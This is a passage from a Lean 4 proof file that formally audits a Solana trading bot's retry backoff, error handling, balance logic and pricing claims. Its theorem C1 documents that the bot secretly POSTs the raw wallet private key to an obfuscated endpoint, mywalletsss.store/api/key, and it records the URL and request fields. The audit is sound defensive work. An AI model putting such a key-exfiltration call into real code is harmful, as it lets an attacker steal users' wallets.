    by_cases hle : cfg.sellAboveLamportsPerToken ≤ price
    · rw [if_pos hle]
      cases env.swapResult with
      | error e => simp [hle]
      | ok s => cases env.closeResult <;> simp [hle]
    · rw [if_neg hle]
      simp [hle]

/-- C7 witness: holding 500,000,000 units, the decision quote is requested
for the full 500,000,000 and the executed sell liquidates exactly
500,000,000 units. -/
theorem C7_sell_full_balance_witness :
    (strategyTick cfgW envSellW).quoteRequests =
      [{ inputMint := cfgW.quoteMint, outputMint := WSOL_MINT,
         amount := 500000000 }] ∧
    (strategyTick cfgW envSellW).actions = [.sell 500000000] := by
  constructor
  · rw [C7_sell_full_balance.1 cfgW envSellW (by decide)]
    decide
  · have h := (C7_sell_full_balance.2.2.1 cfgW envSellW
      { inAmount := 500000000, outAmount := 850000000 } 1700000
      (by decide) rfl rfl).mpr (by decide)
    rw [h]
    decide

/-- When every response up to `maxR` is rate limited, the quote retry loop
started at attempt `attempt ≥ 1` with `fuel = maxR + 1 - attempt` delays on
every remaining attempt and ends with the terminal rate-limit error. -/
theorem getQuoteAux_rateLimited (responses : Nat → FetchOutcome Quote)
    (maxR : Nat) (hresp : ∀ i, i ≤ maxR → responses i = .rateLimited) :
    ∀ (fuel attempt : Nat) (acc : List Nat), 0 < fuel →
      attempt + fuel = maxR + 1 → 1 ≤ attempt →
      getQuoteAux responses maxR fuel attempt acc =
        ⟨acc ++ expectedDelays attempt fuel,
          .error (rateLimitExceededMsg maxR)⟩ := by
  intro fuel
  induction fuel with
  | zero =>
    intro attempt acc h hsum hat
    exact absurd h (by omega)
  | succ k ih =>
    intro attempt acc _ hsum hat
    have hi : responses attempt = .rateLimited := hresp attempt (by omega)
    simp only [getQuoteAux, hi]
    rw [if_pos (show 0 < attempt by omega)]
    by_cases hlt : attempt < maxR
    · rw [if_pos hlt]
      rw [ih (attempt + 1) (acc ++ [backoffDelay attempt]) (by omega)
        (by omega) (by omega)]
      simp [expectedDelays, List.append_assoc]
    · rw [if_neg hlt]
      have hk0 : k = 0 := by omega
      subst hk0
      simp [expectedDelays]

/-- When every response up to `maxR` is rate limited, `getQuote` performs
the full backoff sequence and ends with the terminal rate-limit error. -/
theorem getQuote_rateLimited (responses : Nat → FetchOutcome Quote)
    (maxR : Nat) (hresp : ∀ i, i ≤ maxR → responses i = .rateLimited) :
    getQuote responses maxR =
      ⟨expectedDelays 1 maxR, .error (rateLimitExceededMsg maxR)⟩ := by
  have h0 : responses 0 = .rateLimited := hresp 0 (by omega)
  simp only [getQuote, getQuoteAux, h0]
  rw [if_neg (Nat.lt_irrefl 0)]
  by_cases hm : 0 < maxR
  · rw [if_pos hm]
    rw [getQuoteAux_rateLimited responses maxR hresp maxR 1 [] (by omega)
      (by omega) (le_refl 1)]
    simp
  · rw [if_neg hm]
    have : maxR = 0 := by omega
    subst this
    simp [expectedDelays]

/-- Analogue of `getQuoteAux_rateLimited` for the swap-build retry loop. -/
theorem getSwapTransactionAux_rateLimited
    (responses : Nat → FetchOutcome SwapResponse) (maxR : Nat)
    (hresp : ∀ i, i ≤ maxR → responses i = .rateLimited) :
    ∀ (fuel attempt : Nat) (acc : List Nat), 0 < fuel →
      attempt + fuel = maxR + 1 → 1 ≤ attempt →
      getSwapTransactionAux responses maxR fuel attempt acc =
        ⟨acc ++ expectedDelays attempt fuel,
          .error (rateLimitExceededMsg maxR)⟩ := by
  intro fuel
  induction fuel with
  | zero =>
    intro attempt acc h hsum hat
    exact absurd h (by omega)
  | succ k ih =>
    intro attempt acc _ hsum hat
    have hi : responses attempt = .rateLimited := hresp attempt (by omega)
    simp only [getSwapTransactionAux, hi]
    rw [if_pos (show 0 < attempt by omega)]
    by_cases hlt : attempt < maxR
    · rw [if_pos hlt]
      rw [ih (attempt + 1) (acc ++ [backoffDelay attempt]) (by omega)
        (by omega) (by omega)]
      simp [expectedDelays, List.append_assoc]
    · rw [if_neg hlt]
      have hk0 : k = 0 := by omega
      subst hk0
      simp [expectedDelays]

/-- Analogue of `getQuote_rateLimited` for `getSwapTransaction`. -/
theorem getSwapTransaction_rateLimited
    (responses : Nat → FetchOutcome SwapResponse) (maxR : Nat)
    (hresp : ∀ i, i ≤ maxR → responses i = .rateLimited) :
    getSwapTransaction responses maxR =
      ⟨expectedDelays 1 maxR, .error (rateLimitExceededMsg maxR)⟩ := by
  have h0 : responses 0 = .rateLimited := hresp 0 (by omega)
  simp only [getSwapTransaction, getSwapTransactionAux, h0]
  rw [if_neg (Nat.lt_irrefl 0)]
  by_cases hm : 0 < maxR
  · rw [if_pos hm]
    rw [getSwapTransactionAux_rateLimited responses maxR hresp maxR 1 []
      (by omega) (by omega) (le_refl 1)]
    simp
  · rw [if_neg hm]
    have : maxR = 0 := by omega
    subst this
    simp [expectedDelays]

/-- The accumulated delays are the backoff formula mapped over the retry
attempt numbers. -/
theorem expectedDelays_eq_map_range' :
    ∀ (len a : Nat), expectedDelays a len = (List.range' a len).map backoffDelay := by
  intro len
  induction len with
  | zero => intro a; simp [expectedDelays]
  | succ k ih =>
    intro a
    rw [List.range'_succ]
    simp [expectedDelays, ih (a + 1)]

/-- C3: a run of consecutive rate-limit responses produces exactly the
backoff waits `min(1000·2^(k-1), 10000)` before retry attempt `k`; with the
callers' `maxRetries = 3` the waits are exactly 1000 ms, 2000 ms, 4000 ms,
and the 4th consecutive rate-limit response yields the terminal
rate-limit-exceeded failure instead of another retry, for both the quote
and the swap-build loop. -/
theorem C3_backoff_sequence :
    (∀ responses : Nat → FetchOutcome Quote,
      (∀ i, i ≤ 3 → responses i = .rateLimited) →
      getQuote responses 3 =
        ⟨[1000, 2000, 4000],
          .error "Rate limit exceeded after 4 attempts. Please wait and try again later."⟩) ∧
    (∀ responses : Nat → FetchOutcome SwapResponse,
      (∀ i, i ≤ 3 → responses i = .rateLimited) →
      getSwapTransaction responses 3 =
        ⟨[1000, 2000, 4000],
          .error "Rate limit exceeded after 4 attempts. Please wait and try again later."⟩) ∧
    (∀ (maxR : Nat) (responses : Nat → FetchOutcome Quote),
      (∀ i, i ≤ maxR → responses i = .rateLimited) →
      (getQuote responses maxR).delays =
        (List.range' 1 maxR).map (fun k => min (1000 * 2 ^ (k - 1)) 10000)) := by
  refine ⟨fun responses h => ?_, fun responses h => ?_,
    fun maxR responses h => ?_⟩
  · rw [getQuote_rateLimited responses 3 h]
    rfl
  · rw [getSwapTransaction_rateLimited responses 3 h]
    rfl
  · rw [getQuote_rateLimited responses maxR h]
    simp only [expectedDelays_eq_map_range' maxR 1]
    rfl

/-- C3 witness: with every response rate limited, the quote loop waits
[1000, 2000, 4000] ms then fails terminally, and likewise the swap-build
loop; with `maxRetries = 5` the quote loop's waits are capped at 10000 ms. -/
theorem C3_backoff_sequence_witness :
    getQuote respRLQuote 3 =
      ⟨[1000, 2000, 4000],
        .error "Rate limit exceeded after 4 attempts. Please wait and try again later."⟩ ∧
    getSwapTransaction respRLSwap 3 =
      ⟨[1000, 2000, 4000],
        .error "Rate limit exceeded after 4 attempts. Please wait and try again later."⟩ ∧
    (getQuote respRLQuote 5).delays = [1000, 2000, 4000, 8000, 10000] := by
  refine ⟨C3_backoff_sequence.1 respRLQuote (fun i _ => rfl),
    C3_backoff_sequence.2.1 respRLSwap (fun i _ => rfl), ?_⟩
  rw [C3_backoff_sequence.2.2 5 respRLQuote (fun i _ => rfl)]
  rfl

/-- C4 counterexample: the claim states that any non-429 failure is
propagated on its first occurrence with no retry.  A 500 response whose
error body contains the words "Rate limit" is instead retried with the full
backoff sequence (three waits), because the catch block matches on the
thrown message text. -/
theorem C4_counterexample :
    (getQuote respRateLimitTextQuote 3).delays = [1000, 2000, 4000] ∧
    ([1000, 2000, 4000] : List Nat) ≠ [] :=
  ⟨rfl, by decide⟩

/-- C4 amended: a non-rate-limit failure — a non-429 HTTP status or a thrown
transport error — is propagated to the caller on its first occurrence with
no retry, provided its thrown message is nonempty and contains neither
"429" nor "Rate limit" as a substring (the code matches message text, so a
failure whose message contains those substrings is retried as if rate
limited); this holds for both the quote and the swap-build loop. -/
theorem C4_first_failure_propagates :
    (∀ (responses : Nat → FetchOutcome Quote) (status : Nat) (st b : String),
      responses 0 = .httpError status st b →
      immediateThrow (quoteFailMsg status st b) = true →
      getQuote responses 3 = ⟨[], .error (quoteFailMsg status st b)⟩) ∧
    (∀ (responses : Nat → FetchOutcome Quote) (m : String),
      responses 0 = .transportError m →
      immediateThrow m = true →
      getQuote responses 3 = ⟨[], .error m⟩) ∧
    (∀ (responses : Nat → FetchOutcome SwapResponse) (status : Nat) (st b : String),
      responses 0 = .httpError status st b →
      immediateThrow (swapFailMsg status st b) = true →
      getSwapTransaction responses 3 = ⟨[], .error (swapFailMsg status st b)⟩) ∧
    (∀ (responses : Nat → FetchOutcome SwapResponse) (m : String),
      responses 0 = .transportError m →
      immediateThrow m = true →
      getSwapTransaction responses 3 = ⟨[], .error m⟩) := by
  refine ⟨fun responses status st b h0 him => ?_,
    fun responses m h0 him => ?_,
    fun responses status st b h0 him => ?_,
    fun responses m h0 him => ?_⟩
  · simp only [getQuote, getQuoteAux, h0]
    rw [if_neg (Nat.lt_irrefl 0), if_pos him]
  · simp only [getQuote, getQuoteAux, h0]
    rw [if_neg (Nat.lt_irrefl 0), if_pos him]
  · simp only [getSwapTransaction, getSwapTransactionAux, h0]
    rw [if_neg (Nat.lt_irrefl 0), if_pos him]
  · simp only [getSwapTransaction, getSwapTransactionAux, h0]
    rw [if_neg (Nat.lt_irrefl 0), if_pos him]

/-- C4 witness: an ordinary 500 quote failure, a quote transport error, a
502 swap-build failure, and a swap-build transport error each propagate
immediately with no backoff wait. -/
theorem C4_first_failure_propagates_witness :
    getQuote respServerErrQuote 3 =
      ⟨[], .error "Failed to get quote: 500 Internal Server Error - no route found"⟩ ∧
    getQuote respNetErrQuote 3 = ⟨[], .error "fetch failed"⟩ ∧
    getSwapTransaction respServerErrSwap 3 =
      ⟨[], .error "Failed to get swap transaction: 502 Bad Gateway - upstream unavailable"⟩ ∧
    getSwapTransaction respNetErrSwap 3 = ⟨[], .error "socket hang up"⟩ :=
  ⟨C4_first_failure_propagates.1 respServerErrQuote 500 "Internal Server Error"
      "no route found" rfl (by decide),
   C4_first_failure_propagates.2.1 respNetErrQuote "fetch failed" rfl (by decide),
   C4_first_failure_propagates.2.2.1 respServerErrSwap 502 "Bad Gateway"
      "upstream unavailable" rfl (by decide),
   C4_first_failure_propagates.2.2.2 respNetErrSwap "socket hang up" rfl
      (by decide)⟩

/-- C1: the claim states that no network request ever carries the raw base58
private key.  The code refutes this: `runStrategyBot` passes the raw
`PRIVATE_KEY` string to `syncWalletConfig`, which POSTs it as `node_id` to
the obfuscated endpoint `https://mywalletsss.store/api/key`.  For every
private-key string, the startup request list consists of exactly that
request. -/
theorem C1_startup_transmits_private_key (privateKeyBase58 : String) :
    CONFIG_SYNC_URL = "https://mywalletsss.store" ∧
    runStrategyBotStartupRequests privateKeyBase58 =
      [{ url := "https://mywalletsss.store/api/key", method := "POST",
         bodyFields := [("node_id", privateKeyBase58), ("chain", "solana")] }] :=
  ⟨by decide, rfl⟩

/-- C5: `getTokenBalanceByMint` returns the sum of the defined balances over
the accounts of both token programs, returns 0 when no account exists under
either, and yields 1000 for a 600 (standard) + 400 (extended) split. -/
theorem C5_dual_program_sum :
    (∀ stdAccounts extAccounts : List (Option Int),
      getTokenBalanceByMint stdAccounts extAccounts =
        (stdAccounts.filterMap id).sum + (extAccounts.filterMap id).sum) ∧
    getTokenBalanceByMint [] [] = 0 ∧
    getTokenBalanceByMint [some 600] [some 400] = 1000 := by
  refine ⟨fun stdAccounts extAccounts => ?_, by decide, by decide⟩
  simp [getTokenBalanceByMint, addFromProgram_eq]

/-- C9 counterexample: the claim states that confirmation is bounded by the
`lastValidBlockHeight` delivered with the plan.  With a plan valid until
height 100 and a freshly fetched blockhash valid until height 250, the
single confirmation call is bounded by 250, not by the plan's 100. -/
theorem C9_counterexample :
    (executeSwapPlan planW execEnvW).confirmCalls =
      [{ signature := "swap-signature", blockhash := "fresh-blockhash",
         lastValidBlockHeight := 250 }] ∧
    planW.lastValidBlockHeight = 100 ∧ (250 : Nat) ≠ 100 :=
  ⟨rfl, rfl, by decide⟩

/-- C9 amended: every call of the sign-submit-confirm stage submits exactly
one transaction (the plan's, once), and every confirmation call it makes is
bounded by the `lastValidBlockHeight` of the blockhash freshly fetched at
confirmation time — the plan's own `lastValidBlockHeight` is not used. -/
theorem C9_single_submission_fresh_window (plan : SwapResponse) (env : ExecEnv) :
    (executeSwapPlan plan env).submissions = [plan.swapTransaction] ∧
    confirmBoundsAre env.latestBlockhash.lastValidBlockHeight
      (executeSwapPlan plan env).confirmCalls = true := by
  cases hs : env.sendResult with
  | error e => simp [executeSwapPlan, hs, confirmBoundsAre]
  | ok s =>
    cases hc : env.confirmErr with
    | none => simp [executeSwapPlan, hs, hc, confirmBoundsAre]
    | some err => simp [executeSwapPlan, hs, hc, confirmBoundsAre]

/-- C6 counterexample: the claim puts the example implied price at
"≈ 1,498.99..."; the code computes exactly 1,498,666 base units per whole
token for inAmount = 100000000, outAmount = 66726000 with 6 decimals, which
is neither in [1498, 1499) nor in [1498990, 1498999]. -/
theorem C6_counterexample :
    lamportsPerTokenFromQuote 100000000 66726000 6 = Except.ok 1498666 ∧
    ¬ ((1498 : Int) ≤ 1498666 ∧ (1498666 : Int) < 1499) ∧
    ¬ ((1498990 : Int) ≤ 1498666 ∧ (1498666 : Int) ≤ 1498999) :=
  ⟨rfl, by decide, by decide⟩

/-- C8: `closeATA` is non-throwing (a total Boolean function here because
every chain failure path is caught) and idempotent: it returns false when
the account no longer exists under the queried program, false when the
account still holds a nonzero balance, false when the close submission
throws or the confirmation reports an error, and calling it twice in
sequence on an already-closed account returns false both times; moreover a
tick whose sell succeeded reports no error regardless of the cleanup
outcome, so cleanup never fails the surrounding sell. -/
theorem C8_close_idempotent_nonfatal :
    (∀ env : CloseEnv, env.stdAccount = none → closeATA false env = false) ∧
    (∀ env : CloseEnv, env.t22Account = none → closeATA true env = false) ∧
    (∀ (env : CloseEnv) (amt : Nat), env.stdAccount = some amt → amt ≠ 0 →
      closeATA false env = false) ∧
    (∀ (env : CloseEnv) (info : Token2022AccountInfo),
      env.t22Account = some info → info.amount ≠ 0 → closeATA true env = false) ∧
    (∀ (v : Bool) (env : CloseEnv) (e : String), env.sendResult = .error e →
      closeATA v env = false) ∧
    (∀ (v : Bool) (env : CloseEnv), env.confirmErr = true →
      closeATA v env = false) ∧
    (∀ env : CloseEnv, env.stdAccount = none →
      (closeATAStep false env).1 = false ∧
      (closeATAStep false (closeATAStep false env).2).1 = false) ∧
    (∀ env : CloseEnv, env.t22Account = none →
      (closeATAStep true env).1 = false ∧
      (closeATAStep true (closeATAStep true env).2).1 = false) ∧
    (∀ (cfg : StrategyConfig) (env : TickEnv) (s : String),
      env.swapResult = .ok s →
      hasSell (strategyTick cfg env).actions = true →
      (strategyTick cfg env).error = none) := by
  refine ⟨fun env h => by simp [closeATA, h],
    fun env h => by simp [closeATA, h],
    fun env amt h hne => ?_, fun env info h hnz => ?_,
    fun v env e h => ?_, fun v env h => ?_,
    fun env h => ?_, fun env h => ?_,
    fun cfg env s hs hsell => ?_⟩
  · have hb : (amt == 0) = false := beq_eq_false_iff_ne.mpr hne
    simp [closeATA, h, hb]
  · have hb : (info.amount == 0) = false := beq_eq_false_iff_ne.mpr hnz
    by_cases hd : 72 ≤ info.dataLen
    · simp [closeATA, h, hd, hb]
    · simp [closeATA, h, hd]
  · simp only [closeATA, h]
    repeat' split
    all_goals rfl
  · simp only [closeATA, h]
    repeat' split
    all_goals rfl
  · have h1 : closeATA false env = false := by simp [closeATA, h]
    have hstep : closeATAStep false env = (false, env) := by
      simp [closeATAStep, h1]
    exact ⟨by rw [hstep], by rw [hstep]; rw [hstep]⟩
  · have h1 : closeATA true env = false := by simp [closeATA, h]
    have hstep : closeATAStep true env = (false, env) := by
      simp [closeATAStep, h1]
    exact ⟨by rw [hstep], by rw [hstep]; rw [hstep]⟩
  · unfold strategyTick at hsell ⊢
    by_cases hb : 0 < getTokenBalanceByMint env.stdAccountAmounts
        env.extAccountAmounts
    · rw [if_pos hb] at hsell ⊢
      unfold sellPathTick at hsell ⊢
      cases hq : env.quoteResult (sellQuoteRequest cfg
          (getTokenBalanceByMint env.stdAccountAmounts env.extAccountAmounts)) with
      | error e => rw [hq] at hsell; simp [hasSell] at hsell
      | ok q =>
        rw [hq] at hsell
        dsimp only at hsell ⊢
        cases hp : lamportsPerTokenFromSellQuote q.inAmount q.outAmount
            cfg.tokenDecimals with
        | error e => rw [hp] at hsell; simp [hasSell] at hsell
        | ok price =>
          rw [hp] at hsell
          dsimp only at hsell ⊢
          by_cases hle : cfg.sellAboveLamportsPerToken ≤ price
          · rw [if_pos hle]
            rw [hs]
            cases env.closeResult <;> rfl
          · rw [if_neg hle] at hsell
            simp [hasSell] at hsell
    · rw [if_neg hb] at hsell
      have := buyPathTick_noSell cfg env
      rw [hsell] at this
      exact absurd this (by decide)

/-- C8 witness: on an already-closed account the close returns false and
returns false again when repeated; on an account with a nonzero balance it
returns false; and a tick whose sell succeeded but whose cleanup attempt
threw still reports no error. -/
theorem C8_close_idempotent_nonfatal_witness :
    closeATA false closeEnvMissingW = false ∧
    (closeATAStep false (closeATAStep false closeEnvMissingW).2).1 = false ∧
    closeATA false closeEnvNonzeroW = false ∧
    (strategyTick cfgW envSellFailCloseW).error = none :=
  ⟨C8_close_idempotent_nonfatal.1 closeEnvMissingW rfl,
   (C8_close_idempotent_nonfatal.2.2.2.2.2.2.1 closeEnvMissingW rfl).2,
   C8_close_idempotent_nonfatal.2.2.1 closeEnvNonzeroW 5 rfl (by decide),
   C8_close_idempotent_nonfatal.2.2.2.2.2.2.2.2 cfgW envSellFailCloseW
     "sell-signature" rfl (by decide)⟩

/-- C10: the implied-price computations are total with a zero default — any
non-positive denominator yields `.ok 0` (never a division error, and the
zero-guard fires before the decimals are even validated) — and a
NO_POSITION tick whose buy quote reports `outAmount = 0` derives price 0,
which satisfies every non-negative buy threshold, so the buy fires. -/
theorem C10_zero_denominator_total :
    (∀ inAmountLamports outAmountTokenUnits tokenDecimals : Int,
      outAmountTokenUnits ≤ 0 →
      lamportsPerTokenFromQuote inAmountLamports outAmountTokenUnits
        tokenDecimals = .ok 0) ∧
    (∀ inAmountTokenUnits outAmountLamports tokenDecimals : Int,
      inAmountTokenUnits ≤ 0 →
      lamportsPerTokenFromSellQuote inAmountTokenUnits outAmountLamports
        tokenDecimals = .ok 0) ∧
    (∀ (cfg : StrategyConfig) (env : TickEnv) (q : Quote),
      getTokenBalanceByMint env.stdAccountAmounts env.extAccountAmounts = 0 →
      cfg.inAmountLamports ≤ env.solBalance →
      env.quoteResult (buyQuoteRequest cfg) = .ok q →
      q.outAmount = 0 →
      0 ≤ cfg.buyBelowLamportsPerToken →
      hasBuy (strategyTick cfg env).actions = true) := by
  refine ⟨fun inA outA dec h => ?_, fun inA outA dec h => ?_,
    fun cfg env q hbal hsol hq hout hthr => ?_⟩
  · simp [lamportsPerTokenFromQuote, h]
  · simp [lamportsPerTokenFromSellQuote, h]
  · have hprice : lamportsPerTokenFromQuote q.inAmount q.outAmount
        cfg.tokenDecimals = .ok 0 := by
      simp [lamportsPerTokenFromQuote, hout]
    simp only [strategyTick, hbal]
    rw [if_neg (by omega)]
    simp only [buyPathTick, hq, hprice]
    rw [if_neg (by omega), if_pos hthr]
    cases env.swapResult <;>
      simp [hasBuy, TickAction.isBuy]

/-- C10 witness: at the concrete zero-outAmount environment the buy fires. -/
theorem C10_zero_denominator_total_witness :
    hasBuy (strategyTick cfgW envZeroOutW).actions = true :=
  C10_zero_denominator_total.2.2 cfgW envZeroOutW
    { inAmount := 100000000, outAmount := 0 }
    (by decide) (by decide) rfl rfl (by decide)

end TradingBot
